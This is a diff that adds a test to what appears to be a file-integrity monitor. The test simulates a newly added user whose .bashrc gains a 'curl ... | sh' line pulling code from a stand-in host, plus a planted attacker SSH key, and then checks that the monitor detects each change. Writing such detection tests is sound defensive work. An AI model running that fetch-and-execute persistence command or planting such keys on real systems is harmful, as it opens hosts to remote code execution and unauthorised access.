@@ -190,3 +190,24 @@ def test_corrupt_baseline_is_counted_and_rebuilt(tmp_path: Path) -> None:
     assert metrics.registry.get_sample_value(
         "vedette_input_errors_total", {"source": "fim", "reason": "bad_baseline"}) == 1
     assert load_baseline(baseline) is not None
+
+
+def test_home_of_a_user_added_after_start_is_watched(tmp_path: Path) -> None:
+    root = _root(tmp_path)
+    collector = FimCollector(WatchList.default(root), tmp_path / "state" / "b.json")
+    with _Run(collector) as run:
+        home = root / "home" / "mallory"
+        home.mkdir()
+        (home / ".bashrc").write_text("# skeleton\n")  # useradd -m copies /etc/skel first
+        with open(root / "etc" / "passwd", "a") as fh:
+            fh.write("mallory:x:1001:1001::/home/mallory:/bin/bash\n")
+        assert run.wait("/etc/passwd", "modified") is not None
+        time.sleep(0.5)
+        with open(home / ".bashrc", "a") as fh:  # persistence in the new user's rc file
+            fh.write("curl -s http://198.18.0.1/x | sh\n")
+        assert run.wait("/home/mallory/.bashrc", "modified") is not None
+        (home / ".ssh").mkdir()
+        (home / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA attacker\n")
+        assert run.wait("/home/mallory/.ssh/authorized_keys", "created") is not None
+        assert not [e for e in run.events if e.get("file.path") == "/home/mallory/.bashrc"
+                    and e.get("event.action") == "created"]  # the skeleton is the baseline
